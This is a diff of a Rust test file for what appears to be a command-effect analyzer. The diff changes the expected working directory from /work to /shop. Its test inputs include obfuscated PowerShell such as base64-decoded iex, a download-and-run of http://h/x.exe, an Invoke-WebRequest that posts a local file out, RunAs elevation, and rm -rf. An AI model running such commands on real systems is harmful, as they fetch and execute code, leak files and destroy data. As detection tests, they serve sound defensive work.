@@ -30,20 +30,20 @@ fn files_are_deleted_and_written() {
             ("ri Env:X", "$ ri Env:X"),
             (
                 "Set-Content -Path a.txt -Value 'x'",
-                "$ Set-Content -Path a.txt -Value x | overwrite write-file /work/a.txt certain",
+                "$ Set-Content -Path a.txt -Value x | overwrite write-file /shop/a.txt certain",
             ),
             (
                 "'x' | Out-File a.txt -Append",
-                "$ Out-File a.txt -Append | append append-file /work/a.txt certain",
+                "$ Out-File a.txt -Append | append append-file /shop/a.txt certain",
             ),
-            ("echo hi > a.txt", "$ echo hi | overwrite redirect /work/a.txt certain"),
+            ("echo hi > a.txt", "$ echo hi | overwrite redirect /shop/a.txt certain"),
             (
                 "Clear-Content a.txt",
-                "$ Clear-Content a.txt | overwrite truncate /work/a.txt certain",
+                "$ Clear-Content a.txt | overwrite truncate /shop/a.txt certain",
             ),
             (
                 "Copy-Item a b; Move-Item c d",
-                "$ Copy-Item a b | $ Move-Item c d | read copy /work/a certain | write copy /work/b certain <[File(\"/work/a\")] | move move /work/c certain | write move /work/d certain <[File(\"/work/c\")]",
+                "$ Copy-Item a b | $ Move-Item c d | read copy /shop/a certain | write copy /shop/b certain <[File(\"/shop/a\")] | move move /shop/c certain | write move /shop/d certain <[File(\"/shop/c\")]",
             ),
             ("[IO.File]::Delete('C:\\x')", "delete remove C:/x certain"),
             (
@@ -52,11 +52,11 @@ fn files_are_deleted_and_written() {
             ),
             (
                 "if (Test-Path x) { Remove-Item x }",
-                "$ Test-Path x | $ Remove-Item x | delete remove /work/x possible",
+                "$ Test-Path x | $ Remove-Item x | delete remove /shop/x possible",
             ),
             (
                 "foreach ($f in 'a','b') { Remove-Item $f }",
-                "$ Remove-Item a | $ Remove-Item b | delete remove /work/a certain | delete remove /work/b certain",
+                "$ Remove-Item a | $ Remove-Item b | delete remove /shop/a certain | delete remove /shop/b certain",
             ),
         ],
     );
@@ -81,16 +81,16 @@ fn code_comes_from_elsewhere() {
             ),
             (
                 "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('UmVtb3ZlLUl0ZW0geA==')))",
-                "$ iex Remove-Item x | $ Remove-Item x | execute decoded-code iex certain <[Decoded] | delete remove /work/x certain",
+                "$ iex Remove-Item x | $ Remove-Item x | execute decoded-code iex certain <[Decoded] | delete remove /shop/x certain",
             ),
             (
                 "iex ('Remove' + '-Item x')",
-                "$ iex Remove-Item x | $ Remove-Item x | delete remove /work/x certain",
+                "$ iex Remove-Item x | $ Remove-Item x | delete remove /shop/x certain",
             ),
-            ("& ('Remove-' + 'Item') x", "$ Remove-Item x | delete remove /work/x certain"),
+            ("& ('Remove-' + 'Item') x", "$ Remove-Item x | delete remove /shop/x certain"),
             (
                 "iwr http://h/x.exe -OutFile x.exe; Start-Process x.exe",
-                "$ iwr http://h/x.exe -OutFile x.exe | $ Start-Process x.exe | $ /work/x.exe | receive http http://h/x.exe certain | overwrite download /work/x.exe certain <[Network(\"http://h/x.exe\")] | execute network-code x.exe certain <[Network(\"http://h/x.exe\")]",
+                "$ iwr http://h/x.exe -OutFile x.exe | $ Start-Process x.exe | $ /shop/x.exe | receive http http://h/x.exe certain | overwrite download /shop/x.exe certain <[Network(\"http://h/x.exe\")] | execute network-code x.exe certain <[Network(\"http://h/x.exe\")]",
             ),
             (
                 "Invoke-WebRequest -Uri http://h -Method Post -InFile C:\\k",
@@ -102,11 +102,11 @@ fn code_comes_from_elsewhere() {
             ),
             (
                 "Start-Process powershell -Verb RunAs -ArgumentList '-Command Remove-Item x'",
-                "$ Start-Process powershell -Verb RunAs -ArgumentList -Command Remove-Item x | $ powershell -Command Remove-Item x | $ Remove-Item x | privilege run-as administrator certain | delete remove /work/x certain",
+                "$ Start-Process powershell -Verb RunAs -ArgumentList -Command Remove-Item x | $ powershell -Command Remove-Item x | $ Remove-Item x | privilege run-as administrator certain | delete remove /shop/x certain",
             ),
             (
                 "cmd /c del /q x; bash -c 'rm -rf y'",
-                "$ cmd /c del /q x | $ del /q x | $ rm -rf y | delete remove /work/x certain -f | delete remove /work/y certain -r -f",
+                "$ cmd /c del /q x | $ del /q x | $ rm -rf y | delete remove /shop/x certain -f | delete remove /shop/y certain -r -f",
             ),
         ],
     );
